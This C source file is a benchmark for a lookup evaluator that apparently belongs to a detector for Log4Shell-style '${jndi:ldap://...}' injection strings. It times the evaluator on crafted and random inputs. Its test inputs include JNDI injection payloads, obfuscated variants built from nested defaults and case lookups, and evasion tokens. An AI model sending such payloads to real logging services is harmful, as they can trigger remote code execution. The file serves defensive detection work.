/* lookup_bench: what the evaluator costs, on plain look-ups and on the worst that is known.
 *
 * Prints for each text its length, the class, the time per evaluation and the fuel used. The last
 * line is the longest time per field of all; with the default fuel it is what a field can cost.
 *
 * usage: lookup_bench [N [SEED]]
 *
 * N random texts of the same kind (head, middle and tail repeated, all of tokens of the grammar)
 * are measured as well, and the slowest are printed. */
#include "sensor/base/sbuf.h"
#include "signatures/lookup.h"
#include "tests/dice.h"

#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

enum { TEXT_CAP = LOOKUP_TEXT_MAX, MIN_US = 100000, BATCH_MAX = 64 };

static struct lookup *lookup;
static double longest_us;

/* Of this process; other load on the machine slows it all the same, so the best batch counts. */
static uint64_t cpu_us(void)
{
    return (uint64_t)clock() * 1000000 / CLOCKS_PER_SEC;
}

static void measure(const char *name, struct span text)
{
    struct lookup_options options = {.time_us = UINT64_C(1639139696000000)};
    struct lookup_result result = {0};
    uint64_t fuel = 0;
    uint64_t start = cpu_us();
    double us = 1e9;
    for (uint64_t batch = 1; cpu_us() - start < MIN_US; batch += batch < BATCH_MAX ? batch : 0) {
        uint64_t batch_start = cpu_us();
        for (uint64_t i = 0; i < batch; i++) {
            fuel = LOOKUP_FUEL;
            options.fuel = &fuel;
            lookup_evaluate(lookup, text, &options, &result);
        }
        double took = (double)(cpu_us() - batch_start) / (double)batch;
        us = took < us ? took : us;
    }
    longest_us = us > longest_us ? us : longest_us;
    printf("%-28s %7zu bytes  %-11s %s %10.2f us %9" PRIu64 " units\n", name, text.len,
           lookup_class_name(result.class), result.over_budget ? "over" : "    ", us,
           LOOKUP_FUEL - fuel);
}

/* `head` n times, then `middle`, then `tail` n times. */
static void measure_nest(const char *name, const char *head, const char *middle, const char *tail,
                         unsigned n)
{
    struct sbuf text = sbuf_with_cap(TEXT_CAP);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_str(&text, head);
    }
    sbuf_add_str(&text, middle);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_str(&text, tail);
    }
    measure(name, sbuf_span(&text));
    sbuf_free(&text);
}

/* `head` until there are `n_head` bytes, then `tail` until there are 64 KiB. */
static void measure_many(const char *name, struct span head, size_t n_head, struct span tail)
{
    struct sbuf text = sbuf_with_cap(64 * 1024);
    while (text.len < text.cap) {
        sbuf_add(&text, text.len < n_head ? head : tail);
    }
    measure(name, sbuf_span(&text));
    sbuf_free(&text);
}

/* --- random ones -------------------------------------------------------------------------------
 */

static uint64_t state = 1;

static uint32_t below(uint32_t n)
{
    return (uint32_t)dice_below(&state, n);
}

/* A few tokens, one after the other. */
static void add_tokens(struct sbuf *out, uint32_t n_max)
{
    static const char *const tokens[] = {
        "${",
        "${",
        "${",
        "}",
        "}",
        "$",
        "$${",
        ":-",
        ":\\-",
        ":",
        "a",
        "j",
        "${a:-",
        "${lower:",
        "${upper:",
        "${jndi:",
        "${date:",
        "'",
        "${::-",
        "${env:x:-",
        "\xc4\xb1",
        "{",
        "hostName",
        "${event:Message}",
        "jndi:x",
        "${z}",
        "${java:os}",
        "${sys:file.separator}",
        "$$$$$$$$",
        "${jndi:x:y}",
        " ",
        "#{jndi",
        "\xe2\x84\xaa",
        "${date:'",
        "\xff",
        "\xc3\x84",
    };
    for (uint32_t n = below(n_max + 1); n > 0; n--) {
        sbuf_add_str(out, tokens[below(ARRAY_LEN(tokens))]);
    }
}

static void repeat(struct sbuf *out, struct span what, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        sbuf_add(out, what);
    }
}

/* Evaluates one random text of at most `cap` bytes; those slower than all before are printed. */
static void try_one(size_t cap)
{
    struct sbuf parts[3] = {sbuf_with_cap(512), sbuf_with_cap(512), sbuf_with_cap(512)};
    struct sbuf text = sbuf_with_cap(cap);
    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
        add_tokens(&parts[i], 6);
    }
    size_t n = cap / (1 + parts[0].len + (below(2) == 0 ? parts[2].len : 0));
    repeat(&text, sbuf_span(&parts[0]), n);
    sbuf_shorten(&text, text.len > parts[1].len ? text.len - parts[1].len : 0);
    sbuf_add(&text, sbuf_span(&parts[1]));
    repeat(&text, sbuf_span(&parts[2]), text.len < cap ? n : 0);
    struct lookup_options options = {.time_us = UINT64_C(1639139696000000)};
    struct lookup_result result;
    uint64_t start = cpu_us();
    lookup_evaluate(lookup, sbuf_span(&text), &options, &result);
    double us = (double)(cpu_us() - start);
    if (us > longest_us) {
        char name[160];
        (void)snprintf(name, sizeof(name), "random '%.40s' '%.40s' '%.40s'",
                       sbuf_add_byte(&parts[0], 0) ? (const char *)parts[0].data : "",
                       sbuf_add_byte(&parts[1], 0) ? (const char *)parts[1].data : "",
                       sbuf_add_byte(&parts[2], 0) ? (const char *)parts[2].data : "");
        measure(name, sbuf_span(&text));
    }
    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
        sbuf_free(&parts[i]);
    }
    sbuf_free(&text);
}

static void search(uint64_t n, uint64_t seed)
{
    static const size_t caps[] = {8 * 1024, 64 * 1024, 64 * 1024, LOOKUP_TEXT_MAX};
    state = seed * 2 + 1;
    for (uint64_t i = 0; i < n; i++) {
        try_one(caps[below(ARRAY_LEN(caps))]);
    }
}

int main(int argc, char **argv)
{
    uint64_t n = 0;
    uint64_t seed = 1;
    if ((argc > 1 && !span_to_u64(span_str(argv[1]), &n)) ||
        (argc > 2 && !span_to_u64(span_str(argv[2]), &seed))) {
        fprintf(stderr, "usage: lookup_bench [N [SEED]]\n");
        return EXIT_FAILURE;
    }
    lookup = lookup_new();
    if (lookup == NULL) {
        return EXIT_FAILURE;
    }
    measure("plain", SPAN("${jndi:ldap://x/a}"));
    measure("default letters", SPAN("${${::-j}${::-n}${::-d}${::-i}:${lower:LDAP}://x/${env:A}}"));
    measure("unclosed", SPAN("${jndi:ldap://203.0.113.9/a"));
    measure("harmless", SPAN("price is ${amount} for ${user.name:-you}"));
    measure_nest("40 copies", "${jndi:ldap://x/a} ", "", "", 40);
    measure_nest("nest of defaults 1600", "${:-", "${jndi:ldap://x/a}", "}", 1600);
    measure_nest("nest of defaults 4000", "${:-", "${jndi:ldap://x/a}", "}", 4000);
    measure_nest("nest of lower 1500", "${lower:", "${jndi:ldap://x/a}", "}", 1500);
    measure_nest("nest of unknown 1600", "${", "${jndi:ldap://x/a}", "}", 1600);
    measure_nest("nest of unknown 4000", "${a", "x", "}", 4000);
    measure_nest("openers", "${", "", "", 100000);
    measure_nest("openers and jndi", "${jndi:", "", "", 37000);
    measure_nest("escapes", "$$${", "jndi:x}", "", 60000);
    measure_nest("dollars", "$", "{jndi:x} ${z}", "${z}", 40000);
    measure_nest("unknown ones", "${a}", "", "", 60000);
    measure_nest("unknown ones, escaped", "$${a}", "", "", 50000);
    measure_nest("default names", "${jndi:a:-", "", "}", 2000);
    measure_nest("doubling", "${lower:$$$$$$${a:-", "${jndi:ldap://x/a}", "}}", 300);
    measure_nest("doubling defaults", "${a:-$${b:-", "x", "}}", 500);
    measure_nest("growing", "$${event:Message} ", "${z}", "", 3);
    measure_nest("colons", "${:", ":", "}", 4000);
    measure_nest("not ASCII", "${lower:\xc3\x84\xce\xa3", "${z}", "}", 3000);
    measure_nest("closing braces", "${a ", "", "}}}}", 30000);
    /* found by worst_search */
    measure_nest("names in names", "${jndi:", "#{jndi", "}", 3500);
    measure_many("messages in a message", SPAN("${event:Message}:\\-$"), 4 * 1024,
                 SPAN("\\$\0{\0j\0"));
    measure_many("dollars, not UTF-8", SPAN("\xc0$"), 60 * 1024,
                 SPAN("\\x24${event:Message}#{jndi"));
    measure_many("upper case, not UTF-8", SPAN("\xc0"), 4 * 1024, SPAN(":\\-&${url:${upper:"));
    measure_many("a value of others", SPAN("\xc0\xa4\xff"), 56 * 1024,
                 SPAN("${upper:SkhzSmFtNWth"));
    search(n, seed);
    printf("longest: %.0f us\n", longest_us);
    lookup_free(&lookup);
    return EXIT_SUCCESS;
}
